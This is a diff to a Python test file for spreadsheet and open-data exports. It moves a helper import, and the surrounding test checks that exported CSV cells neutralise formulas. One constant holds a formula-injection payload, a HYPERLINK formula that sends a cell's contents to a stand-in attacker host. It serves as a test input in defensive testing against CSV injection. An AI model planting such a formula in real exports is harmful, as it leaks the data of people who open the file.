@@ -12,6 +12,7 @@ import pytest
 from hub.spreadsheets import safe_cell
 from network.exchange import export, importing, records
 from network.tables import ImportRecord, Structure
+from tests.conftest import read_datainclusion_export
 from tests.test_exchange import DATA, validate_all
 
 FORMULA = '=HYPERLINK("http://attaquant.example/?v="&A1,"Cliquez")'
@@ -81,7 +82,7 @@ async def test_exports_neutralise_formulas_and_stay_valid_open_data(rt, tmp_path
     assert row["nom"] == "'" + FORMULA and row["description"] == "'" + DDE
     assert row["telephone"] == "+33238000010" and row["longitude"] == "-1.9021"
     # the package still validates every row of the CSV pair, the neutralised ones included
-    assert validate_all(export.read_datainclusion_export(as_csv.paths)) == (as_csv.structures, as_csv.services)
+    assert validate_all(read_datainclusion_export(as_csv.paths)) == (as_csv.structures, as_csv.services)
 
     await export.export_directory(rt, "mednum-csv", tmp_path / "lieux.csv")
     with (tmp_path / "lieux.csv").open(encoding="utf-8", newline="") as handle:
